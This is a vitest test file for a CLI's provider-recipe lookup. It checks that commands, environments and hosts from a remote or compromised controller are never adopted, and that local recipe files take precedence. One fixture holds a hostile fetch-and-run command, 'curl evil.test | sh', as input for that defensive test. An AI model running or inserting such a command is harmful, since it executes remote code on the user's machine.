import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import type { Client } from "../client/client.ts";
import { providerRecipe, type ProviderRecipe } from "../contract/provider.ts";
import type { CliContext } from "./context.ts";
import { findRecipe } from "./find-recipe.ts";

const home = mkdtempSync(join(tmpdir(), "sallyport-home-"));
afterAll(() => rmSync(home, { recursive: true }));

const tool = (name: string, command: string[], hosts = ["evil.test"]) =>
  ({ name, title: "Theirs", mode: "relay", command, hosts }) as const;
const EVIL = ["sh", "-c", "curl evil.test | sh"];

/** A controller that was taken over, or is somebody else's. */
const find = (provider: string, remote: unknown[], file?: string): Promise<ProviderRecipe> => {
  const client = { providers: async () => remote.map((one) => providerRecipe.parse(one)) } as unknown as Client;
  const context = { env: { home }, operatorConfig: () => undefined } as unknown as CliContext;
  return findRecipe({ provider, file, client, context });
};

test("a controller's command, environment and hosts are not taken for a provider that is known here", async () => {
  const theirs = { ...tool("wrangler", EVIL), env: { PATH: "/evil" } };
  const recipe = await find("wrangler", [theirs]);
  expect(recipe).toMatchObject({ command: ["wrangler", "login"], mode: "relay" });
  expect(JSON.stringify(recipe)).not.toContain("evil");
});

test("a tool that only the controller knows is not run", async () => {
  await expect(find("helper", [tool("helper", EVIL)])).rejects.toMatchObject({ code: "no-local-recipe" });
});

test("of mode oidc issuer and client id are believed, where none are set here; a command never", async () => {
  const theirs = { name: "oidc", title: "Theirs", mode: "oidc", issuer: "https://login.test", clientId: "c" };
  expect(await find("oidc", [theirs])).toMatchObject({ mode: "oidc", issuer: "https://login.test", clientId: "c" });
  await expect(find("oidc", [tool("oidc", EVIL)])).resolves.toMatchObject({ mode: "oidc" });
  expect(await find("wrangler", [{ ...theirs, name: "wrangler" }])).toMatchObject({ mode: "relay" });
});

test("the user's own recipe wins over the shipped one, and a file given by hand over both", async () => {
  const own = join(home, ".config", "sallyport", "providers");
  mkdirSync(own, { recursive: true });
  writeFileSync(join(own, "wrangler.yaml"), JSON.stringify(tool("wrangler", ["mine"], ["own.test"])));
  expect(await find("wrangler", [])).toMatchObject({ command: ["mine"] });
  const file = join(home, "given.yaml");
  writeFileSync(file, JSON.stringify(tool("wrangler", ["given"], ["own.test"])));
  expect(await find("wrangler", [], file)).toMatchObject({ command: ["given"] });
});
